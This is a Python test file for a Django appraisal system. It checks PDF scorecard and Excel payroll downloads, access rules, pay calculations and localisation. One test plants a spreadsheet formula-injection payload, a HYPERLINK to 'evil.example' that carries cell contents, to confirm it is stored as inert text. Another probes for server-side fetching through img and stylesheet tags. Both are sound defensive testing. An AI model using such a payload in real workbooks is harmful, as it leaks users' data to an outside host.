"""The downloads: an agent's scorecard as a PDF 考核表 (one, or a cycle's zipped or merged) and
a cycle's results as Excel for payroll.

The PDF's text is read back with pypdf, and its fonts are checked to be embedded (a font
descriptor with FontFile2 or FontFile3): a viewer without Chinese fonts shows the same form. The
workbook is opened with openpyxl.
"""

from __future__ import annotations

import io
import re
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from django.test import Client, override_settings
from openpyxl import load_workbook
from pypdf import PdfReader

from appraise.web.cycles import services as cs
from appraise.web.cycles.models import Cycle
from appraise.web.interviews.services import interview_sign, interview_write
from appraise.web.schemes.services import scheme_version_create

from ..conftest import ROOT, Advance, People


def signed_in(user: object) -> Client:
    client = Client()
    client.force_login(user)  # type: ignore[arg-type]
    return client


def pdf_pages(body: bytes) -> list[str]:
    """The text of each page, spaces squeezed (pypdf may split a run of Chinese)."""
    return [re.sub(r"\s+", " ", p.extract_text() or "") for p in PdfReader(io.BytesIO(body)).pages]


def pdf_text(body: bytes) -> str:
    return " ".join(pdf_pages(body))


def embedded_fonts(body: bytes) -> dict[str, set[str]]:
    """Every font the pages use, by name, with the FontFile keys of its descriptor (empty when
    the font is only named, as the old writer's STSong-Light was)."""
    fonts: dict[str, set[str]] = {}
    for page in PdfReader(io.BytesIO(body)).pages:
        for ref in page["/Resources"]["/Font"].values():
            font = ref.get_object()
            parts = [d.get_object() for d in font.get("/DescendantFonts", [])] or [font]
            for part in parts:
                descriptor = part.get("/FontDescriptor")
                keys = set(descriptor.get_object()) if descriptor is not None else set()
                fonts[str(font["/BaseFont"])] = {k for k in keys if k.startswith("/FontFile")}
    return fonts


def test_the_agent_downloads_their_published_scorecard_as_a_pdf(
    people: People, cycle: Cycle, advance: Advance
) -> None:
    advance(cycle, "published")
    with override_settings(
        APPRAISE_SCORECARD={
            "COMPANY_NAME": "杭州小店电子商务有限公司",
            "SIGNATURES": ["当事人", "考核人", "部门经理", "总经理"],
        }
    ):
        response = signed_in(people.a1).get(f"/cycles/{cycle.pk}/scorecards/A001.pdf")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert 'filename="scorecard-2026-10-A001-v1.pdf"' in response["Content-Disposition"]
    body = response.content
    assert body.startswith(b"%PDF-") and body.rstrip().endswith(b"%%EOF")
    reader = PdfReader(io.BytesIO(body))
    # A4: 210 x 297 mm = 595.28 x 841.89 pt.
    box = reader.pages[0].mediabox
    assert (round(float(box.width)), round(float(box.height))) == (595, 842)
    text = pdf_text(body)
    assert "杭州小店电子商务有限公司" in text
    assert "张三" in text and "A001" in text and "一组" in text
    # A001 was rated 80 on every s000 leaf: 80 x 90 / 100 = 72, 合格 ([70, 85)).
    assert re.search(r"总分 ?72\b", text) and re.search(r"评价等级 ?合格", text)
    # The sign-off chain from the settings, each role with its line.
    for role in ("当事人", "考核人", "部门经理", "总经理"):
        assert f"{role}签字" in text
    # Every font is embedded, and it is a subset (a six-letter tag before its name).
    fonts = embedded_fonts(body)
    assert fonts and all(files & {"/FontFile2", "/FontFile3"} for files in fonts.values())
    assert all(re.match(r"/[A-Z]{6}\+", name) for name in fonts)
    assert any("CJK" in name for name in fonts)


def test_the_pdf_holds_the_calibration_reason_and_the_interview_record(
    people: People, cycle: Cycle, advance: Advance
) -> None:
    advance(cycle, "calibration")
    cs.cycle_calibrate(
        cycle=cycle, by=people.hr, agent=people.agent_a1, grade="称职", note="大促期间顶班"
    )
    advance(cycle, "interviews")
    record = interview_write(
        cycle=cycle,
        agent=people.agent_a1,
        by=people.sup1,
        content="逐项核对了各指标，礼貌用语需加强。",
        plan="每周复盘 3 个会话。",
    )
    interview_sign(record=record, by=people.a1, comment="已阅，同意。")
    text = pdf_text(signed_in(people.a1).get(f"/cycles/{cycle.pk}/scorecards/A001.pdf").content)
    assert "校准说明" in text and "大促期间顶班" in text
    # 72 scores 合格; HR calibrated it to 称职, and the form says what it was.
    assert re.search(r"称职（校准前 ?合格）", text)
    assert "绩效面谈记录" in text and "礼貌用语需加强" in text and "每周复盘 3 个会话" in text
    assert "已阅，同意。" in text


def test_before_publication_the_agent_gets_no_pdf_but_their_supervisor_does(
    people: People, cycle: Cycle, advance: Advance
) -> None:
    advance(cycle, "self_assessment")  # computed, not published
    url = f"/cycles/{cycle.pk}/scorecards/A001.pdf"
    assert signed_in(people.a1).get(url).status_code == 404
    response = signed_in(people.sup1).get(url)
    assert response.status_code == 200 and response.content.startswith(b"%PDF")


def test_an_earlier_version_of_a_rescored_result_is_still_downloadable(
    people: People, cycle: Cycle, advance: Advance
) -> None:
    from appraise.web.evaluations.services import rating_set

    advance(cycle, "appeal_window")
    # HR corrects one rating after publication: courtesy 80 -> 100 adds 20 x 10 / 100 = 2 points.
    from appraise.web.appeals import services as appeals

    appeal = appeals.appeal_file(cycle=cycle, by=people.a1, reasons="礼貌得体评分有误")
    appeals.appeal_decide(appeal=appeal, by=people.sup1, decision="uphold", note="属实")
    rating_set(
        cycle=cycle,
        agent=people.agent_a1,
        indicator="courtesy",
        role="supervisor",
        value="100",
        by=people.hr,
    )
    appeals.appeal_rescore(appeal=appeal, by=people.hr)
    client = signed_in(people.a1)
    v2 = pdf_text(client.get(f"/cycles/{cycle.pk}/scorecards/A001.pdf").content)
    v1 = pdf_text(client.get(f"/cycles/{cycle.pk}/scorecards/A001.pdf?version=1").content)
    assert re.search(r"总分 ?74\b", v2) and re.search(r"总分 ?72\b", v1)
    assert client.get(f"/cycles/{cycle.pk}/scorecards/A001.pdf?version=3").status_code == 404


def test_a_cycle_s_forms_download_as_a_zip_and_as_one_merged_pdf(
    people: People, cycle: Cycle, advance: Advance
) -> None:
    advance(cycle, "published")
    hr = signed_in(people.hr)
    got = hr.get(f"/cycles/{cycle.pk}/scorecards.zip")
    assert got.status_code == 200 and got["Content-Type"] == "application/zip"
    assert f'filename="scorecards-2026-10-{cycle.pk}.zip"' in got["Content-Disposition"]
    archive = zipfile.ZipFile(io.BytesIO(got.content))
    names = sorted(archive.namelist())
    assert names == [f"scorecard-2026-10-{a}-v1.pdf" for a in ("A001", "A002", "B001")]
    # The paper ratings: A002 100 x 90 / 100 = 90 (称职), B001 50 x 90 / 100 = 45 (不合格).
    a002 = pdf_text(archive.read("scorecard-2026-10-A002-v1.pdf"))
    assert "李四" in a002 and re.search(r"总分 ?90\b", a002) and "称职" in a002
    merged = hr.get(f"/cycles/{cycle.pk}/scorecards.pdf")
    assert merged.status_code == 200 and merged["Content-Type"] == "application/pdf"
    pages = pdf_pages(merged.content)
    # Each form starts on its own page, in the order of the agent ids.
    starts = [i for i, p in enumerate(pages) if "结果版本" in p]
    assert len(starts) == 3
    assert ["张三" in pages[starts[0]], "李四" in pages[starts[1]], "王五" in pages[starts[2]]] == [
        True,
        True,
        True,
    ]
    assert all(embedded_fonts(merged.content).values())


def test_the_bulk_download_holds_only_what_the_person_may_see(
    people: People, cycle: Cycle, advance: Advance
) -> None:
    advance(cycle, "self_assessment")  # computed, not published
    # sup1 leads 一组 (A001, A002); the agent sees nothing before publication.
    names = zipfile.ZipFile(
        io.BytesIO(signed_in(people.sup1).get(f"/cycles/{cycle.pk}/scorecards.zip").content)
    ).namelist()
    assert sorted(names) == ["scorecard-2026-10-A001-v1.pdf", "scorecard-2026-10-A002-v1.pdf"]
    assert signed_in(people.a1).get(f"/cycles/{cycle.pk}/scorecards.zip").status_code == 404
    assert signed_in(people.hr).get(f"/cycles/{cycle.pk}/scorecards.doc").status_code == 400


MONTHLY = ROOT / "schemes" / "seeds" / "s000-monthly.yaml"
RATINGS_HEADER = (
    "agent_id,period,rater_id,成交过程监控,服务质量调研，提升方案分析研究报告,投诉案例处理效率,"
    "工作态度,学习能力,团队精神,日常考核\n"
)


@pytest.fixture
def monthly_cycle(people: People) -> Cycle:
    """s000-monthly (pay = rated amount x total / 100, to the cent) for the three agents."""
    version = scheme_version_create(
        by=people.hr, text=MONTHLY.read_text(encoding="utf-8"), file="s000-monthly.yaml"
    )
    cycle = cs.cycle_create(
        by=people.hr,
        name="十月月度考核",
        scheme_version=version,
        period="2026-10",
        teams=[people.team1, people.team2],
    )
    metric_values = (
        "agent_id,name,period,新客户有效信息数,额定绩效金额\n"
        "A001,张三,2026-10,50,1234.57\n"
        "A002,李四,2026-10,44,\n"
        "B001,王五,2026-10,21,\n"
        ",,2026-10,,777.77\n"
    )
    ratings = (
        RATINGS_HEADER + "A001,2026-10,K01,较好完成,较好完成,较好完成,A,A,A,A\n"
        "A002,2026-10,K01,基本完成,较好完成,有未完成,A,B,B,C\n"
        "B001,2026-10,K01,有未完成,有未完成,有未完成,C,C,B,A\n"
    )
    cs.cycle_import_data(
        cycle=cycle,
        by=people.hr,
        files={
            "metric_values.csv": metric_values.encode("utf-8"),
            "ratings.csv": ratings.encode("utf-8"),
        },
    )
    return cs.cycle_compute(cycle=cycle, by=people.hr)


def payroll(client: Client, cycle: Cycle) -> Any:
    response = client.get(f"/cycles/{cycle.pk}/results.xlsx")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    return load_workbook(io.BytesIO(response.content))


def by_agent(sheet: Any) -> dict[str, dict[str, Any]]:
    header = [c.value for c in sheet[1]]
    return {
        r[0]: dict(zip(header, r, strict=True))
        for r in sheet.iter_rows(min_row=2, values_only=True)
    }


def test_the_payroll_workbook_holds_every_pay_amount_to_the_cent(
    people: People, monthly_cycle: Cycle
) -> None:
    book = payroll(signed_in(people.hr), monthly_cycle)
    assert book.sheetnames == ["考核结果", "指标明细", "考核周期"]
    sheet = book["考核结果"]
    header = [c.value for c in sheet[1]]
    # Chinese columns; the pay line under its name in the scheme (实际绩效金额), not its id.
    assert header == [
        "工号",
        "姓名",
        "班组",
        "结果版本",
        "参加考核",
        "总分",
        "等级",
        "校准前等级",
        "排名",
        "级别",
        "实际绩效金额",
        "绩效工资合计",
        "校准说明",
        "标记",
    ]
    rows = by_agent(sheet)
    assert set(rows) == {"A001", "A002", "B001"}

    def cents(value: object) -> Decimal:
        return Decimal(str(value)).quantize(Decimal("0.01"))

    # A001: the best level everywhere (18 + 13 + 13), 50 leads (10), A x 4 (40) = 94;
    # 1234.57 x 94 / 100 = 1160.4958 -> 1160.50.
    # A002: 12 + 13 + 3, 44 leads (6 short: two steps of 3 -> 10 - 2 = 8), A B B C (20) = 56;
    # the centre's 777.77 x 56 / 100 = 435.5512 -> 435.55.
    # B001: 6 + 3 + 3, 21 leads (29 short: 9 whole steps -> 1), C C B A (15) = 28;
    # 777.77 x 28 / 100 = 217.7756 -> 217.78.
    expected = {
        "A001": (94, "1160.50"),
        "A002": (56, "435.55"),
        "B001": (28, "217.78"),
    }
    for agent_id, (total, pay) in expected.items():
        row = rows[agent_id]
        assert row["总分"] == total and row["参加考核"] == "是"
        assert cents(row["实际绩效金额"]) == Decimal(pay)
        # Excel keeps no more than the cents: nothing left over from an unrounded product.
        assert Decimal(str(row["绩效工资合计"])) == Decimal(pay)
    assert rows["A001"]["姓名"] == "张三" and rows["B001"]["班组"] == "二组"
    # The sum payroll pays out: 1160.50 + 435.55 + 217.78 = 1813.83.
    assert sum(cents(r["绩效工资合计"]) for r in rows.values()) == Decimal("1813.83")
    # Money shows as yuan to the cent (¥1,160.50), the header and the ids stay while scrolling.
    money_columns = [sheet.cell(row=1, column=c).value for c in (11, 12)]
    assert money_columns == ["实际绩效金额", "绩效工资合计"]
    for col in (11, 12):
        assert {sheet.cell(row=r, column=col).number_format for r in (2, 3, 4)} == {'"¥"#,##0.00'}
    assert sheet.freeze_panes == "C2"
    # 绩效工资合计 is 6 Chinese characters, 12 columns wide, + 2 of margin.
    assert sheet.column_dimensions["L"].width == 14
    about = {r[0]: r[1] for r in book["考核周期"].iter_rows(min_row=2, values_only=True)}
    assert about["考核名称"] == "十月月度考核" and about["已发布"] == "否（草稿结果）"
    explained = [r for r in book["指标明细"].iter_rows(values_only=True) if r[0] == "A001"]
    assert any(r[2] == "new_customers" and r[6] == 10 for r in explained)


def test_the_payroll_workbook_is_english_for_an_english_reader(
    people: People, monthly_cycle: Cycle
) -> None:
    client = signed_in(people.hr)
    client.post("/i18n/setlang/", {"language": "en"})
    book = payroll(client, monthly_cycle)
    assert book.sheetnames == ["Results", "Indicators", "Cycle"]
    header = [c.value for c in book["Results"][1]]
    assert header[:3] == ["Agent ID", "Name", "Team"] and "Pay total" in header


def test_the_calibration_reason_is_in_the_payroll_row(
    people: People, cycle: Cycle, advance: Advance
) -> None:
    advance(cycle, "calibration")
    # A001 scored 72 (合格); HR raises the grade with a reason.
    cs.cycle_calibrate(
        cycle=cycle, by=people.hr, agent=people.agent_a1, grade="称职", note="大促期间顶班"
    )
    row = by_agent(payroll(signed_in(people.hr), cycle)["考核结果"])["A001"]
    assert (row["等级"], row["校准前等级"], row["校准说明"]) == ("称职", "合格", "大促期间顶班")


def test_a_name_that_is_a_formula_is_stored_as_text_in_the_payroll_workbook(
    people: People, monthly_cycle: Cycle
) -> None:
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"工资条")'
    people.agent_a1.name = evil
    people.agent_a1.save(update_fields=["name"])
    book = payroll(signed_in(people.hr), monthly_cycle)
    for sheet in (book["考核结果"], book["指标明细"]):
        cells = [c for c in sheet["B"] if c.value == evil]
        # A string with Excel's quote prefix: shown as typed, never evaluated.
        assert cells and all(c.data_type == "s" and c.quotePrefix for c in cells)


def test_only_hr_exports_payroll(people: People, monthly_cycle: Cycle) -> None:
    url = f"/cycles/{monthly_cycle.pk}/results.xlsx"
    assert signed_in(people.sup1).get(url).status_code == 403
    assert signed_in(people.manager).get(url).status_code == 403


def test_the_api_gives_a_cycle_s_forms_as_the_pages_do(
    people: People, cycle: Cycle, advance: Advance, api: Any
) -> None:
    advance(cycle, "published")
    got = api(people.sup1).get(f"/api/cycles/{cycle.pk}/scorecards/?as=pdf")
    assert got.status_code == 200 and got["Content-Type"] == "application/pdf"
    # sup1 leads 一组: A001 (张三) and A002 (李四), not B001 (王五) of 二组.
    text = pdf_text(got.content)
    assert "张三" in text and "李四" in text and "王五" not in text
    zipped = api(people.a1).get(f"/api/cycles/{cycle.pk}/scorecards/")
    assert zipped.status_code == 200 and zipped["Content-Type"] == "application/zip"
    assert zipfile.ZipFile(io.BytesIO(zipped.content)).namelist() == [
        "scorecard-2026-10-A001-v1.pdf"
    ]
    assert api(people.outsider).get(f"/api/cycles/{cycle.pk}/scorecards/").status_code == 404
    refused = api(people.hr).get(f"/api/cycles/{cycle.pk}/scorecards/?as=docx")
    assert refused.status_code == 400 and "zip" in refused.json()["message"]


def test_the_cycle_page_links_the_bulk_downloads(
    people: People, cycle: Cycle, advance: Advance
) -> None:
    advance(cycle, "published")
    body = signed_in(people.hr).get(f"/cycles/{cycle.pk}/").content.decode()
    assert f'href="/cycles/{cycle.pk}/scorecards.zip"' in body and "考核表（zip 压缩包）" in body
    assert f'href="/cycles/{cycle.pk}/scorecards.pdf"' in body
    team = f"/cycles/{cycle.pk}/scorecards.pdf?team={people.team2.pk}"
    assert f'href="{team}"' in body and "考核表（PDF）" in body
    # 二组 holds B001 (王五) alone.
    got = signed_in(people.hr).get(team)
    assert got.status_code == 200
    assert (
        f'filename="scorecards-2026-10-{cycle.pk}-team{people.team2.pk}.pdf"'
        in got["Content-Disposition"]
    )
    text = pdf_text(got.content)
    assert "王五" in text and "张三" not in text


def test_the_renderer_fetches_nothing_and_a_name_with_markup_is_printed_as_text(
    people: People, cycle: Cycle, advance: Advance
) -> None:
    import socket
    import threading

    from appraise.web.exports.scorecard import render

    # A listener on loopback: an <img> or a stylesheet that the renderer followed would
    # connect to it (a server asking addresses of its network for whoever wrote the HTML).
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(2)
    server.settimeout(3)
    port = server.getsockname()[1]
    connected: list[bool] = []

    def accept() -> None:
        try:
            server.accept()[0].close()
            connected.append(True)
        except OSError:
            pass

    waiter = threading.Thread(target=accept)
    waiter.start()
    url = f"http://127.0.0.1:{port}/x.png"
    render(f'<p>表</p><img src="{url}"><link rel="stylesheet" href="{url}">').write_pdf()
    # The template escapes what people typed: a name is text, not an element.
    people.agent_a1.name = f'<img src="{url}">张三'
    people.agent_a1.save(update_fields=["name"])
    advance(cycle, "published")
    body = signed_in(people.a1).get(f"/cycles/{cycle.pk}/scorecards/A001.pdf").content
    server.close()
    waiter.join()
    assert connected == []
    assert f"127.0.0.1:{port}/x.png" in pdf_text(body).replace(" ", "")


def test_an_english_reader_gets_the_form_in_english(
    people: People, cycle: Cycle, advance: Advance
) -> None:
    advance(cycle, "published")
    client = signed_in(people.a1)
    client.post("/i18n/setlang/", {"language": "en"})
    pages = pdf_pages(client.get(f"/cycles/{cycle.pk}/scorecards/A001.pdf").content)
    text = " ".join(pages)
    # 80 x 90 / 100 = 72, the same number in either language.
    assert re.search(r"Total ?72\b", text) and "Weighted score" in text
    assert "当事人 signature:" in text  # the roles are the company's own words (settings)
    assert "考核结果" not in text and "Page 1 / " in pages[0]
